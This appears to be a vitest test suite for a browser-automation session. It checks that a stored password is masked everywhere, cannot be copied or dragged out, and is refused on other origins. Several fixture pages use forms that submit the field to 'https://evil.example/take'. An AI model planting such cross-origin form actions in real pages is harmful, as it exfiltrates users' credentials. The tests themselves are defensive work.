import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import { type PageFixture, startPageFixture } from "../screenshot/page-fixture.test.support.ts";
import { readPixels } from "../screenshot/pixels.test.support.ts";
import { createPageSession } from "../session/create-page-session.ts";
import type { PageSession } from "../session/page-session.ts";

const CANARY = 'hunter2+"ü/&x';
const FORMS = [
  CANARY,
  encodeURIComponent(CANARY),
  Buffer.from(CANARY).toString("base64"),
  JSON.stringify(CANARY).slice(1, -1),
];
const MASK = "#1f2937";

let fixture: PageFixture;
let session: PageSession;
const logged: string[] = [];
const note = (message: string, fields?: unknown): void => void logged.push(`${message} ${JSON.stringify(fields)}`);

beforeAll(async () => {
  fixture = await startPageFixture();
});
afterEach(async () => {
  await session.close();
});
afterAll(() => fixture[Symbol.asyncDispose]());

async function open(html: string, origins?: readonly string[]): Promise<void> {
  await fixture.open(html);
  session = await createPageSession(fixture.page, {
    log: { debug: note, info: note, warn: note, error: note },
    secrets: [{ name: "password", value: CANARY, origins: origins ?? [new URL(fixture.page.url()).origin] }],
  });
}

function expectNoCanary(sink: string): void {
  for (const form of FORMS) expect(sink).not.toContain(form);
}

describe("a secret", () => {
  it("is typed unchanged, and is in no result, snapshot, diff, log or error", async () => {
    await open(`<label>Code <input id="code"></label><p id="echo"></p><button>Go</button>
      <script>code.oninput = () => { echo.textContent = "You wrote " + code.value + " " + encodeURIComponent(code.value) + " " + btoa(unescape(encodeURIComponent(code.value))); document.title = code.value }</script>`);
    const before = await session.snapshot();
    const target = await session.refOf(fixture.page.locator("#code"));
    const filled = await session.perform({ kind: "fill", target, text: { secret: "password" } });
    expect(filled).toMatchObject({ status: "done", action: { text: { secret: "password" } } });
    expect(await fixture.page.locator("#code").inputValue()).toBe(CANARY);
    const after = await session.snapshot();
    const diff = await session.snapshot({ since: before });
    const error = await session.perform({ kind: "fill", target, text: { secret: "passwort" } }).catch(String);
    expect(error).toContain("passwort");
    const held = await session.perform({ kind: "fill", target, text: { secret: "password" } });
    const described = await session.describe(target);
    expect(held.effect?.alreadyHeld).toBe(true);
    expect(after.text).toContain("[secret password]");
    const sinks = {
      filled,
      held,
      described,
      error,
      after: [after.text, after.lines, after.title],
      diff: diff.text,
      logged,
    };
    for (const sink of Object.values(sinks)) expectNoCanary(JSON.stringify(sink));
  });

  it("can't be pasted by the middle button on another origin once it was typed", async () => {
    await open(`<input id="code"><a href="#">Link</a>`);
    const press = { kind: "mouse", event: "down", at: { x: 300, y: 300 }, button: "middle" } as const;
    const release = { ...press, event: "up" } as const;
    fixture.serve("/other", "<p>Other");
    const target = await session.refOf(fixture.page.locator("#code"));
    await session.perform({ kind: "fill", target, text: { secret: "password" } });
    expect((await session.perform(press)).obstacle).toBeUndefined();
    await session.perform(release);
    await fixture.page.goto(fixture.elsewhere("/other"));
    expect((await session.perform(press)).obstacle).toMatchObject({ kind: "policy" });
  });

  it("can't be pasted by the middle button in a sandboxed frame of its own page", async () => {
    const style = "position:fixed;top:50px;width:700px;height:500px";
    await open(`<input id="code"><iframe sandbox srcdoc="<p>Other" style="${style}"></iframe>`);
    const target = await session.refOf(fixture.page.locator("#code"));
    await session.perform({ kind: "fill", target, text: { secret: "password" } });
    const press = { kind: "mouse", event: "down", at: { x: 300, y: 300 }, button: "middle" } as const;
    expect((await session.perform(press)).obstacle).toMatchObject({ kind: "policy" });
  });

  it("is masked in every picture, in its field and where the page shows it", async () => {
    await open(`<body style="margin:0;background:#fff">
      <input id="code" style="position:absolute;left:20px;top:20px;width:200px;height:30px;border:0;background:#ff0000;color:#00ff00">
      <p id="echo" style="position:absolute;left:20px;top:100px;width:200px;height:30px;margin:0;background:#0000ff;color:#00ff00"></p>
      <script>code.oninput = () => { echo.textContent = code.value }</script>`);
    const target = await session.refOf(fixture.page.locator("#code"));
    await session.perform({ kind: "fill", target, text: { secret: "password" } });
    for (const options of [{}, { fullPage: true }, { maxWidth: 400 }, { marks: true }] as const) {
      const pixels = readPixels((await session.screenshot(options)).bytes);
      for (const color of ["#ff0000", "#0000ff", "#00ff00"]) expect(pixels.boxOf(color)).toBeUndefined();
      expect(pixels.boxOf(MASK)).toBeDefined();
    }
  });

  it("is refused on an origin that it is not bound to, and in a frame of such an origin", async () => {
    await open(`<input id="code">`, ["https://bank.example"]);
    const target = await session.refOf(fixture.page.locator("#code"));
    const refused = await session.perform({ kind: "fill", target, text: { secret: "password" } });
    expect(refused).toMatchObject({ status: "blocked", obstacle: { kind: "secret" } });
    expect(refused.message).toContain("https://bank.example");
    expect(await fixture.page.locator("#code").inputValue()).toBe("");
  });

  it("is refused in a frame of another origin", async () => {
    fixture.serve("/login", `<input id="code">`);
    await open(`<iframe src="${fixture.elsewhere("/login")}"></iframe>`);
    const field = fixture.page.frameLocator("iframe").locator("#code");
    const target = await session.refOf(field);
    const refused = await session.perform({ kind: "fill", target, text: { secret: "password" } });
    expect(refused).toMatchObject({ status: "blocked", obstacle: { kind: "secret" } });
    expect(await field.inputValue()).toBe("");
  });

  it.each([
    ["its form", `<form action="https://evil.example/take"><input id="code"></form>`],
    [
      "a button of its form",
      `<form><input id="code"><button formaction="https://evil.example/take">Go</button></form>`,
    ],
    [
      "its form, whatever a field is called",
      `<form action="https://evil.example/"><input id="code"><input name="action"></form>`,
    ],
  ])("is refused where %s sends it to another origin", async (_what, html) => {
    await open(html);
    const target = await session.refOf(fixture.page.locator("#code"));
    const refused = await session.perform({ kind: "fill", target, text: { secret: "password" } });
    expect(refused).toMatchObject({ status: "blocked", obstacle: { kind: "secret" } });
    expect(refused.message).toContain("https://evil.example");
    expect(await fixture.page.locator("#code").inputValue()).toBe("");
  });

  it.each(["open", "closed"])(
    "is refused where a form in a shadow tree sends it to another origin: %s",
    async (mode) => {
      const button = `<button formaction="https://evil.example/take">Go</button>`;
      const inside = (html: string): string => `<div><template shadowrootmode="${mode}">${html}</template></div>`;
      const pages = [
        inside(`<form action="/login"><input>${button}</form>`),
        `<form action="https://evil.example/take">${inside("<input>")}</form>`,
        `<form>${inside(inside("<input>"))}${button}</form>`,
      ];
      for (const html of pages) {
        await open(html);
        const { refs } = await session.snapshot();
        const target = [...refs.values()].find(({ role }) => role === "textbox")?.ref ?? "";
        const refused = await session.perform({ kind: "fill", target, text: { secret: "password" } });
        expect(refused, html).toMatchObject({ status: "blocked", obstacle: { kind: "secret" } });
        expect(refused.message).toContain("https://evil.example");
        await session.close();
      }
    },
  );

  it("can't be copied or cut from its field", async () => {
    await open(`<form action="javascript:void 0"><input id="code"></form><textarea id="notes"></textarea>`);
    const target = await session.refOf(fixture.page.locator("#code"));
    const notes = await session.refOf(fixture.page.locator("#notes"));
    await session.perform({ kind: "fill", target, text: { secret: "password" } });
    for (const key of ["Control+c", "Control+x"]) {
      await session.perform({ kind: "press", key: "Control+a", target });
      await session.perform({ kind: "press", key, target });
      await session.perform({ kind: "press", key: "Control+v", target: notes });
      expect(await fixture.page.inputValue("#notes")).toBe("");
      expect(await fixture.page.inputValue("#code")).toBe(CANARY);
    }
  });

  it.each(["Control+Insert", "Shift+Delete"])("can't be taken from its field by %s", async (key) => {
    await open(`<input id="code"><textarea id="notes"></textarea>`);
    const target = await session.refOf(fixture.page.locator("#code"));
    await session.perform({ kind: "fill", target, text: { secret: "password" } });
    await session.perform({ kind: "press", key: "Control+a", target });
    await session.perform({ kind: "press", key, target });
    const notes = await session.refOf(fixture.page.locator("#notes"));
    await session.perform({ kind: "press", key: "Control+v", target: notes });
    expect(await fixture.page.inputValue("#notes")).toBe("");
    expect(await fixture.page.inputValue("#code")).toBe(CANARY);
  });

  it.each([
    ["a secret", { secret: "password" }, ""],
    // Without this twin, a page in which nothing can be dragged would pass as well.
    ["another text", "letter", "letter"],
  ])("is not dragged out of its field: %s", async (_what, text, dropped) => {
    await open(`<input id="code" style="width:90px;font:16px monospace"><textarea id="notes"></textarea>`);
    const target = await session.refOf(fixture.page.locator("#code"));
    const to = await session.refOf(fixture.page.locator("#notes"));
    await session.perform({ kind: "fill", target, text });
    await session.perform({ kind: "press", key: "Control+a", target });
    const box = await fixture.page.locator("#code").boundingBox();
    if (!box) throw new Error("The field has no box.");
    await session.perform({ kind: "drag", target: { x: box.x + 15, y: box.y + box.height / 2 }, to });
    expect(await fixture.page.inputValue("#notes")).toBe(dropped);
  });

  it("typed without a target goes to no other origin", async () => {
    await open(`<input id="code" autofocus>`, ["https://bank.example"]);
    await fixture.page.locator("#code").focus();
    const refused = await session.perform({ kind: "type", text: { secret: "password" } });
    expect(refused).toMatchObject({ status: "blocked", obstacle: { kind: "secret" } });
    expect(await fixture.page.locator("#code").inputValue()).toBe("");
  });

  it.each([
    ["in several nodes", (value: string) => `<b>${value.slice(0, 9)}</b>${value.slice(9)}`],
    [
      "by a pseudo-element",
      (value: string) => `<style>i::after { content: attr(data-v) }</style><i data-v="${value}"></i>`,
    ],
    ["as an option", (value: string) => `<select style="color:#00ff00"><option>${value}</select>`],
    ["cut off by the page", (value: string) => `${value.slice(0, 12)}…`],
    ["in groups", (value: string) => value.replace(/.{4}/g, "$& ")],
    [
      "in a frame without an address of its own",
      (value: string) => `<iframe srcdoc="<p style='color:#00ff00'>${value}"></iframe>`,
    ],
  ])("is covered in pictures where the page shows it %s", async (_how, show) => {
    await fixture.open(
      `<body style="margin:0;background:#fff;color:#00ff00;font:40px monospace">${show("a1b2c3d4e5f6g7h8")}`,
    );
    const origins = [new URL(fixture.page.url()).origin];
    session = await createPageSession(fixture.page, {
      secrets: [{ name: "code", value: "a1b2c3d4e5f6g7h8", origins }],
    });
    const pixels = readPixels((await session.screenshot()).bytes);
    expect(pixels.boxOf("#00ff00")).toBeUndefined();
    expect(pixels.boxOf(MASK)).toBeDefined();
  });

  it("is in no message if the page shows it in pieces", async () => {
    await fixture.open(
      `<button id="target" onclick="out.innerHTML = '<b>a1b2c3d4</b>e5f6g7h8'">Show</button><p id="out"></p>`,
    );
    const origins = [new URL(fixture.page.url()).origin];
    session = await createPageSession(fixture.page, {
      secrets: [{ name: "code", value: "a1b2c3d4e5f6g7h8", origins }],
    });
    const target = await session.refOf(fixture.page.locator("#target"));
    const reported = JSON.stringify(await session.perform({ kind: "click", target }));
    expect(reported).not.toMatch(/a1b2|e5f6/);
    expect(reported).toContain("done");
  });

  it("leaves at most three characters where a description cuts a name", async () => {
    const secret = "a1b2c3d4e5f6g7h8";
    const lengths = [85, 90, 95, 105, 110, 115, 185, 190, 195];
    const long = (length: number): string => "lorem ".repeat(40).slice(0, length - 1);
    const group = (length: number): string =>
      `<section aria-label="${long(length)} ${secret}"><button>b${length}</button></section>`;
    await fixture.open(
      lengths.map((length) => `<button>${long(length)} ${secret} end</button>${group(length)}`).join(""),
    );
    const origins = [new URL(fixture.page.url()).origin];
    session = await createPageSession(fixture.page, { secrets: [{ name: "code", value: secret, origins }] });
    const refs = [...(await session.snapshot({ maxTokens: Number.POSITIVE_INFINITY })).refs.keys()];
    const described = await session.describeAll(refs);
    expect(described.size).toBe(2 * lengths.length);
    expect(JSON.stringify(session.masked([...described.values()]))).not.toContain(secret.slice(0, 4));
    const [first = ""] = refs;
    expect(JSON.stringify(session.masked(await session.describe(first)))).not.toContain(secret.slice(0, 4));
  });

  it("must have at least one origin", async () => {
    const secrets = [{ name: "password", value: CANARY, origins: ["https://bank.example/login"] }];
    const error = await createPageSession(fixture.page, { secrets }).catch(String);
    expect(error).toContain("options.secrets[0].origins[0]");
    session = await createPageSession(fixture.page);
  });
});
